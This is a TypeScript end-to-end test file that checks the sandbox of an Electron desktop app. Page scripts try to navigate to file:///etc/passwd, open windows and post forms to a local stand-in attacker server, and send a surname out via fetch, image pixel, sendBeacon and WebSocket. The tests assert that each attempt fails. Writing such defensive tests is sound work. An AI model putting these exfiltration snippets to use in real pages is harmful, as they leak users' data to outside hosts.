/**
 * What only the real desktop shell can show, where its binary is there: the walls of the engine around the window, by what comes of an attack. What
 * main answers meanwhile is asserted by shell-attack on the stand-in. The other specs of the project e2e-electron run in it as well.
 */
import { rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { _electron, type ElectronApplication, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { builtProgram } from '../electron/stand-in/index.ts';
import * as at from '../support/counsellor.ts';
import { newOfficeFolder, storyDay } from '../support/office-window.ts';
import { fromThePage } from '../support/page-script.ts';
import { whyNoElectron } from '../support/shells.ts';

const reason = whyNoElectron();
if (reason !== null) console.log(`skipped: all windows in real Electron, because ${reason}`);

describe.skipIf(reason !== null)('the desktop shell', () => {
  let dir: string;
  let shell: ElectronApplication;
  let page: Page;
  let outside: Server;
  /** An address outside the window where somebody really answers: whatever reaches it is noted. */
  let address: string;
  const reached: string[] = [];

  beforeAll(async () => {
    outside = createServer((request, response) => {
      reached.push(`${request.method ?? ''} ${request.url ?? ''}`);
      response.writeHead(200, { 'Content-Type': 'text/html', 'Access-Control-Allow-Origin': '*' }).end('<h1>evil</h1>');
    });
    outside.on('upgrade', (request, socket) => {
      reached.push(`upgrade ${request.url ?? ''}`);
      socket.destroy();
    });
    await new Promise<void>((resolve) => { outside.listen(0, '127.0.0.1', resolve); });
    address = `http://127.0.0.1:${String((outside.address() as AddressInfo).port)}`;
    dir = await newOfficeFolder();
    shell = await _electron.launch({ args: [builtProgram(), `--user-data-dir=${join(dir, 'user-data')}`, '--dir', join(dir, 'data'), '--today', storyDay] });
    page = await shell.firstWindow();
    await at.setUpOffice(page);
    // The attacks take it from here: a script that is brought into the page knows nothing of this file.
    await page.evaluate((url) => { (globalThis as unknown as { outside: string }).outside = url; }, address);
  });

  afterAll(async () => {
    await shell?.close();
    await new Promise<void>((resolve) => { outside.close(() => { resolve(); }); });
    await rm(dir ?? '', { recursive: true, force: true });
  });

  /** Addresses of all that main has on the screen or beside it. */
  const shown = () => shell.evaluate(({ webContents }) => webContents.getAllWebContents().map((one) => one.getURL()).filter((url) => !url.startsWith('devtools:')));

  /** Our page alone, on its own address, alive; and nobody outside heard of it. */
  async function unharmed(): Promise<void> {
    await page.getByRole('navigation', { name: 'Hauptbereiche' }).waitFor();
    expect((await shown()).map((url) => url.replace(/#.*$/, ''))).toEqual(['lotse://app/']);
    expect(await page.evaluate(() => location.origin)).toBe('lotse://app');
    expect(reached).toEqual([]);
  }

  /** A link in the upper left corner of the page, as a page script could leave one. */
  async function leaveLink(href: string): Promise<void> {
    await page.evaluate((to) => {
      const link = Object.assign(document.createElement('a'), { href: to, textContent: 'link', id: 'link' });
      Object.assign(link.style, { position: 'fixed', insetBlockStart: '0', insetInlineStart: '0', zIndex: '99', padding: '20px' });
      document.body.append(link);
    }, href);
  }
  const takeLink = () => page.evaluate(() => document.getElementById('link')?.remove());

  test('the address outside would be reached, were it not for the window', async () => {
    await fetch(`${address}/control`);
    expect(reached.splice(0)).toEqual(['GET /control']);
  });

  test('stores a field, in a window without powers', async () => {
    await at.newCase(page);
    await at.pick(page, 'Einwilligungserklärung liegt vor', 'erteilt');
    await at.openSection(page, '2.1');
    await at.write(page, 'Nachname', 'Haydari');
    const powers = await page.evaluate(() => ['require', 'process', 'Buffer', 'ipcRenderer', 'electron'].filter((name) => name in globalThis));
    expect(powers).toEqual([]);
    await unharmed();
  });

  test('every window lives under the preferences that were asked for, as the engine has them', async () => {
    const preferences = await shell.evaluate(({ BrowserWindow }) =>
      BrowserWindow.getAllWindows().map(({ webContents }) => (webContents as unknown as { getLastWebPreferences(): Record<string, unknown> }).getLastWebPreferences()));
    expect(preferences).toHaveLength(1);
    for (const one of preferences) {
      expect(one).toMatchObject({ sandbox: true, contextIsolation: true, nodeIntegration: false, webSecurity: true, webviewTag: false });
      for (const power of ['nodeIntegrationInWorker', 'nodeIntegrationInSubFrames', 'allowRunningInsecureContent', 'experimentalFeatures', 'navigateOnDragDrop']) expect([power, one[power] ?? false]).toEqual([power, false]);
    }
  });

  test.each([
    ['navigation', () => { location.href = (globalThis as unknown as { outside: string }).outside; }],
    ['navigation to a file', () => { location.href = 'file:///etc/passwd'; }],
    ['navigation to markup of its own', () => { location.href = 'data:text/html,<h1>evil</h1>'; }],
    ['window.open', () => { window.open((globalThis as unknown as { outside: string }).outside); }],
    ['window.open of our own page', () => { window.open('/'); }],
    ['form post', () => {
      const form = Object.assign(document.createElement('form'), { action: (globalThis as unknown as { outside: string }).outside, method: 'post' });
      document.body.append(form);
      form.submit();
      form.remove();
    }],
  ])('%s leads nowhere', async (_name, attack) => {
    await fromThePage(page, attack);
    await unharmed();
  });

  test.each(['left', 'middle'] as const)('a link clicked with the %s button leads nowhere, nor does one of javascript:', async (button) => {
    for (const href of [`${address}/link`, 'javascript:globalThis.ranLink=true']) {
      await leaveLink(href);
      await page.mouse.click(12, 12, { button });
      await takeLink();
      await unharmed();
    }
    expect(await page.evaluate(() => 'ranLink' in globalThis)).toBe(false);
  });

  test('a file or a link dropped on the window is not opened', async () => {
    const file = join(dir, 'dropped.html');
    await writeFile(file, '<h1>evil</h1>');
    const session = await shell.context().newCDPSession(page);
    for (const data of [{ items: [], files: [file], dragOperationsMask: 1 }, { items: [{ mimeType: 'text/uri-list', data: `${address}/dropped` }], dragOperationsMask: 1 }]) {
      for (const type of ['dragEnter', 'dragOver', 'drop'] as const) await session.send('Input.dispatchDragEvent', { type, x: 400, y: 400, data });
      await unharmed();
    }
    await session.detach();
  });

  test('nothing is fetched from outside or sent there', async () => {
    const tried = await fromThePage(page, async () => {
      const { outside: url } = globalThis as unknown as { outside: string };
      const named = (problem: unknown): string => (problem as Error).name;
      const fetched = await fetch(url).then(() => 'loaded', named);
      const picture = await new Promise<string>((resolve) => {
        const image = new Image();
        image.onload = () => { resolve('loaded'); };
        image.onerror = () => { resolve('refused'); };
        image.src = `${url}/pixel.png`;
      });
      navigator.sendBeacon(`${url}/beacon`, 'Haydari');
      const socket = await new Promise<string>((resolve) => {
        try {
          const line = new WebSocket(url.replace('http', 'ws'));
          line.onopen = () => { resolve('open'); };
          line.onerror = () => { resolve('refused'); };
        } catch (problem) {
          resolve(named(problem));
        }
      });
      return { fetched, picture, socket };
    });
    expect(tried).toMatchObject({ fetched: 'TypeError', picture: 'refused' });
    expect((tried as { socket: string }).socket).not.toBe('open');
    await unharmed();
  });

  test('text does not become code, and what asks for a power is refused', async () => {
    const tried = await fromThePage(page, async () => {
      const named = (problem: unknown): string => (problem as Error).name;
      // eslint-disable-next-line no-eval -- the attack itself
      const code = await (async () => (0, eval)('1') as unknown)().then(() => 'ran', named);
      const location = await new Promise<string>((resolve) => { navigator.geolocation.getCurrentPosition(() => { resolve('granted'); }, () => { resolve('refused'); }); });
      const clipboard = await navigator.clipboard.readText().then(() => 'granted', named);
      const midi = await navigator.requestMIDIAccess().then(() => 'granted', named);
      const notifications = await Notification.requestPermission();
      return { code, location, clipboard, midi, notifications };
    });
    expect(tried).toMatchObject({ code: 'EvalError', location: 'refused', notifications: 'denied' });
    expect(Object.values(tried)).not.toContain('granted');
    await unharmed();
  });

  test('a plan is shown inside the print dialog: the frame is not empty', async () => {
    await at.openSection(page, '4');
    await at.form(page).getByRole('button', { name: /^Ziel hinzufügen/ }).first().click();
    await at.write(page, 'Ziel in eigenen Worten', 'Ich will Elektrikerin werden.');
    await at.makePlan(page);
    await page.getByRole('dialog').getByRole('heading', { name: 'Vereinbarung – Vorschau' }).waitFor({ timeout: 60_000 });
    const frames = () => shell.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().flatMap(({ webContents }) => webContents.mainFrame.framesInSubtree.map(({ url }) => url)));
    await expect.poll(async () => (await frames()).some((url) => url.startsWith('chrome-extension://mhjfbmdgcfjbbpaeojofohoefgiehjai/')), { timeout: 30_000 }).toBe(true);
    await page.keyboard.press('Escape');
  });

  test('nobody outside was reached to the end', async () => {
    await shell.close();
    expect(reached).toEqual([]);
  });
});
